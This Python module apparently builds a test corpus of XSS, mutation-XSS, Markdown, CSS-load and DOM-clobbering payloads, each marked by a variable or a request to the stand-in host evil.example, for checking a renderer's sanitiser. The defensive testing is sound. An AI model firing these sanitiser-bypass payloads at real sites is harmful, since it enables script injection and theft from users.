"""Texts that would run a script, load something or take a name in a page that let them.

Each names itself: it sets `ran_17`, asks for http://evil.example/17, or calls itself clobber17.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterable
from itertools import product
from typing import NamedTuple

EVIL = "http://evil.example"
NAMED = re.compile(r"ran_(\d+)|evil\.example/(\d+)|clobber(\d+)")
FEWEST = 12


class Payload(NamedTuple):
    """One text, and the number by which it is known when it ran."""

    number: int
    text: str


def payloads(times: float, dice: random.Random) -> list[Payload]:
    """Give all payloads, or a part of them that always has the first few."""
    written = [
        Payload(n, text.replace("«run»", f"top.ran_{n}=1").replace("«at»", f"{EVIL}/{n}").replace("«n»", str(n)))
        for n, text in enumerate([*BY_HAND, *_systematic()])
    ]
    wanted = min(len(written), max(FEWEST, round(len(written) * times)))
    return [*written[:SURE], *dice.sample(written[SURE:], wanted - SURE)]


def named_in(text: str, known: Iterable[Payload]) -> str:
    """Name the payload that a text comes from, as far as it says so."""
    found = NAMED.search(text)
    number = int(next(filter(None, found.groups()))) if found else None
    return next((f"payload {one.number}, {one.text!r}" for one in known if one.number == number), "a payload unnamed")


def _systematic() -> list[str]:
    tags = [opening.replace("*", f"{handler}=«run»") for opening, handler in product(OPENINGS, HANDLERS)]
    links = [form.replace("*", address) for form, address in product(LINKS, ADDRESSES)]
    styles = [form.replace("*", f"{name}:url(«at»)") for form, name in product(STYLED, STYLES)]
    loads = [f"<{tag}>" for tag in LOADING]
    return [*tags, *links, *styles, *loads]


HANDLERS = ("onload", "onerror", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
OPENINGS = (
    "<img src=x *>", "<svg *>", "<body *>", "<iframe src=about:blank *></iframe>", "<input autofocus *>",
    "<details open *><summary>x</summary></details>", "<video src=x *></video>", "<audio src=x *>",
    "<object data=x *></object>",
    "<div tabindex=1 autofocus style='animation-name:jp-rotate;animation-duration:1s' *>x</div>",
    "<select autofocus *><option>x</select>", "<textarea autofocus *>x</textarea>", "<style *>x</style>",
    "<link rel=stylesheet href=x *>", "<marquee *>x</marquee>", "<button popovertarget=x *>x</button>",
    "<math><mi *>x</mi></math>", "<form><input type=image src=x *></form>",
)  # fmt: skip
ADDRESSES = (
    "javascript:«run»", "JaVaScRiPt:«run»", "java\tscript:«run»", "&#106;avascript:«run»", "javascript&colon;«run»",
    "\x01javascript:«run»", "data:text/html,<script>«run»</script>", "vbscript:«run»", "view-source:javascript:«run»",
)  # fmt: skip
LINKS = ("[x](*)", "[x](<*>)", '<a href="*">x</a>', "[x][r]\n\n[r]: <*>", "<*>")
STYLES = ("background", "mask", "filter", "cursor", "list-style-image", "clip-path", "content")
STYLED = ('<b style="*">x</b>', '<span style="*">x</span>', "<a href='#' style='*'>x</a>")
LOADING = (
    'img src="«at»"', 'img srcset="«at» 1x, «at» 2x"', 'image src="«at»"', 'video poster="«at»"',
    'audio src="«at»" autoplay', 'video autoplay><source src="«at»"', 'track src="«at»"', 'iframe src="«at»"',
    'embed src="«at»"', 'object data="«at»"', 'link rel=stylesheet href="«at»"', 'link rel=prefetch href="«at»"',
    'link rel=preconnect href="«at»"', 'link rel=dns-prefetch href="//«n».evil.example/«n»"',
    'link rel=modulepreload href="«at»"', 'link rel=icon href="«at»"', 'script src="«at»"',
    'script type=module src="«at»"', 'meta http-equiv=refresh content="0;url=«at»"', 'base href="«at»/"',
    'form action="«at»"><input type=submit', 'input type=image src="«at»"', 'button formaction="«at»"',
    'body background="«at»"', 'table background="«at»"', 'svg><use href="«at»#x"/></svg',
    'svg><image href="«at»"/></svg', 'svg><image xlink:href="«at»"/></svg', 'svg><feImage href="«at»"/></svg',
    'frameset><frame src="«at»"></frameset', 'a ping="«at»" href="#"',
    'picture><source srcset="«at»"><img src=x></picture', 'applet code="«at»"', 'portal src="«at»"',
)  # fmt: skip
BY_HAND = (
    "<script>«run»</script>",
    "<img src=x onerror=«run»>",
    "![x](«at»)",
    "[x](javascript:«run»)",
    '<b style="mask:url(«at»)">x</b>',
    "<style>@import url(«at»);</style>",
    '<a href="javascript:«run»">x</a>',
    '" autofocus tabindex=1 onfocus="«run»" x="',
    # scripts that hide
    "<ScRiPt >«run»</sCrIpT>",
    "<scr<script>ipt>«run»</scr</script>ipt>",
    "<script/x>«run»</script>",
    "<script\x00>«run»</script>",
    "<\x00script>«run»</script>",
    "<script>«run»//",
    "<<script>«run»//<</script>",
    "&lt;script&gt;«run»&lt;/script&gt;",
    "&#60;script&#62;«run»&#60;/script&#62;",
    "\\<script>«run»\\</script>",
    "\uff1cscript\uff1e«run»\uff1c/script\uff1e",
    "<script\u2028>«run»</script>",
    "<\u200bscript>«run»</script><script>«run»</script>",
    "+ADw-script+AD4-«run»+ADw-/script+AD4-",
    "<script src=data:text/javascript,«run»></script>",
    "<script type=module>«run»</script>",
    "\u202e<script>«run»</script>",
    "\ud800<script>«run»</script>",
    # breaking out of an attribute, an element or a comment
    "' onmouseover='«run»' x='",
    '"><script>«run»</script>',
    "'><img src=x onerror=«run»>",
    "`onmouseover=«run» x=`",
    "</title><script>«run»</script>",
    "</textarea><img src=x onerror=«run»>",
    "</style><script>«run»</script>",
    "</script><script>«run»</script>",
    "</p></div></section><script>«run»</script>",
    "</svg><img src=x onerror=«run»>",
    "</option></select><img src=x onerror=«run»>",
    "--><script>«run»</script><!--",
    "--!><img src=x onerror=«run»>",
    "<!--><script>«run»</script>-->",
    "<![CDATA[<script>«run»</script>]]>",
    "]]><script>«run»</script>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>«run»</x:script>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM '«at»'>]>&x;",
    "<noscript><p title='</noscript><img src=x onerror=«run»>'>",
    "<template><img src=x onerror=«run»></template>",
    "<template shadowrootmode=open><script>«run»</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=«run»>'>",
    "<title><img title='</title><img src=x onerror=«run»>'>",
    "<xmp><img title='</xmp><img src=x onerror=«run»>'>",
    "<plaintext><img src=x onerror=«run»>",
    # one reading in HTML, another one in SVG or MathML
    "<svg><script>«run»</script></svg>",
    "<svg><script>&#116;op.ran_«n»=1</script></svg>",
    "<svg><style><img src=x onerror=«run»></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=«run»>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=«run»></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=«run»>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=«run»></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>«run»</script>'></iframe></foreignObject></svg>",
    "<svg><animate onbegin=«run» attributeName=x dur=1s></svg>",
    "<svg><set onbegin=«run» attributeName=x to=1></svg>",
    "<svg><a xlink:href='javascript:«run»'><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:«run»'></animate><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=«run»/>#x'/></svg>",
    "<math href='javascript:«run»'><mi>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:«run»'>x</maction></math>",
    "<svg/onload=«run»>",
    "<svg\x0conload=«run»>",
    "<svg><desc><![CDATA[</desc><script>«run»</script>]]></svg>",
    # frames and documents
    "<iframe srcdoc='<script>«run»</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;«run»&lt;/script&gt;'></iframe>",
    "<iframe src='javascript:«run»'></iframe>",
    "<iframe src='data:text/html,<script>«run»</script>'></iframe>",
    "<object data='data:text/html,<script>«run»</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=«run»/>'>",
    "<meta http-equiv=refresh content='0;javascript:«run»'>",
    "<meta http-equiv=Content-Security-Policy content=\"report-uri «at»\">",
    "<form action='javascript:«run»'><button autofocus>x</button></form>",
    "<button form=x formaction='javascript:«run»'>x</button>",
    "<base href='javascript:/a/-«run»;//'><a href='#'>x</a>",
    "<dialog open onclose=«run»><form method=dialog><button autofocus>x</button></form></dialog>",
    "<script>alert(«n»);«run»</script>",
    "<img src=x onerror='alert(«n»);«run»'>",
    "<img src=x onerror=window.open('«at»')>",
    "<a href='«at»' target=_self autofocus onfocus=this.click()>x</a>",
    # Markdown
    "![x][r]\n\n[r]: «at»",
    "![x](«at» 'title')",
    "![x](<«at»>)",
    "[![x](«at»)](javascript:«run»)",
    "[x](javascript:«run» 'title')",
    "[x](  javascript:«run»)",
    "[x](javascript\\:«run»)",
    "[x](java%73cript:«run»)",
    "[x](\u2028javascript:«run»)",
    "[x](http://x\"onmouseover=\"«run»)",
    "[x](http://x '\"><script>«run»</script>')",
    "[x](https://x/\"><img/src=x/onerror=«run»>)",
    "[<img src=x onerror=«run»>](http://127.0.0.1)",
    "[a]: javascript:«run»\n\n[a] [a][a] [x][a]",
    "[x](file:///etc/passwd?evil.example/«n»)",
    "[x](blob:«at»)",
    "[x](//evil.example/«n»)",
    "[x](«at»)",
    "<http://evil.example/«n»\"onmouseover=«run»>",
    "<javascript:«run»>",
    "http://evil.example/«n»/<script>«run»</script>",
    "`<script>«run»</script>`",
    "``` <script>«run»</script> ```",
    "    <script>«run»</script>",
    "~~~\" onmouseover=«run»\n<script>«run»</script>\n~~~",
    "> <script>«run»</script>",
    "- <img src=x onerror=«run»>",
    "# <img src=x onerror=«run»>",
    "<img src=x onerror=«run»>\n===",
    "| <img src=x onerror=«run»> |\n|--|\n| x |",
    "*<img src=x onerror=«run»>*",
    "**<b onmouseover=«run»>x</b>**",
    "<div>\n\n[x](javascript:«run»)\n\n</div>",
    "<!-- [x](javascript:«run») --><img src=x onerror=«run»>",
    "[^1]: <script>«run»</script>",
    "x<br/onmouseover=«run»>y",
    "$\\href{javascript:«run»}{x}$",
    "$$\\unicode{<img src=x onerror=«run»>}$$",
    "\\(\\class{x\" onmouseover=\"«run»}{x}\\)",
    "{{constructor.constructor('«run»')()}}",
    "${«run»}",
    "<%= «run» %>",
    # what plotly reads in a text
    '<a href="«at»" style="list-style-image:url(«at»)">x</a>',
    '<a href="«at»" popup="width=1">x</a>',
    "<a href='javascript:«run»' target='_top'>x</a>",
    '<a href="java\nscript:«run»">x</a>',
    '<a href="«at»" popup="\');«run»;(\'">x</a>',
    '<sup style="mask-image:url(«at»)">x</sup>',
    "<sub style='shape-outside:url(«at»)'>x</sub>",
    '<i style="fill:url(«at»#x);filter:url(«at»#y)">x</i>',
    "<em style=\"background:image-set('«at»' 1x)\">x</em>",
    '%{y:<img src=x onerror=«run»>}<extra><a href="javascript:«run»">x</a></extra>',
    "%{customdata}<br><b onmouseover=«run»>x</b>",
    # styles
    "<style>*{background:url(«at»)}</style>",
    "<style>@font-face{font-family:x;src:url(«at»)}*{font-family:x}</style>",
    "<div style=\"background:url('«at»')\">x</div>",
    "<div style='background:\\75rl(«at»)'>x</div>",
    "<div style='width:expression(«run»)'>x</div>",
    "<p style='animation:jp-rotate 1s' onanimationend=«run»>x</p>",
    "<p hidden=until-found onbeforematch=«run»>x</p>",
    "<p contenteditable autofocus onfocus=«run»>x</p>",
    # names that a page might trust
    "<img id=clobber«n» name=body>",
    "<form id=clobber«n» name=getElementById><input name=attributes></form>",
    "<a id=clobber«n»></a><a id=clobber«n» name=href href='«at»'>x</a>",
    "<iframe name=clobber«n» srcdoc='<a id=x>'></iframe>",
    "<p class='clobber«n» recprep-form jp-Dialog'>x</p>",
    "<div id=jupyter-config-data data-clobber=clobber«n»>{\"baseUrl\": \"«at»\"}</div>",
    "<input type=radio name=clobber«n» checked><label for=clobber«n»>x</label>",
    "<p slot=clobber«n» is=clobber«n»>x</p>",
    # what steers a terminal, a number or a line
    "\x1b]8;;javascript:«run»\x07x\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror=«run»>\x1b[0m",
    "\x1b]0;<script>«run»</script>\x07",
    "\r\n\r\n<script>«run»</script>",
    "x\x08\x08<img src=x onerror=«run»>",
    "';«run»;'",
    '");«run»;("',
    "\\u003cscript\\u003e«run»\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=«run»\\x3e",
    "__proto__<img src=x onerror=«run»>",
    "<a href=x onclick=«run»>" + 40 * "<b>",
    "<p>" + 80 * "x " + "<img src=x onerror=«run»>",
)  # fmt: skip
SURE = 8
